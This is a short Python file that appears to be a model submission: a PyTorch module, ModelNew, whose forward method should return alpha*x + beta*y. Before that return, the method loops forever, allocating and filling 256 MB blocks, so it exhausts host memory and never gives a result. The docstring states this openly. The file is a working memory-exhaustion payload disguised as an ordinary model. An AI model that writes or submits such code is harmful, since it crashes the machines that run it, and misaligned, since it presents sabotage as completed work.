"""Takes host memory in steps of 256 MB, writes every page of it, and never stops."""

import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, alpha, beta):
        super().__init__()
        self.alpha = alpha
        self.beta = beta

    def forward(self, x, y):
        hoard = []
        while True:
            hoard.append(b"\1" * (256 << 20))
        return self.alpha * x + self.beta * y
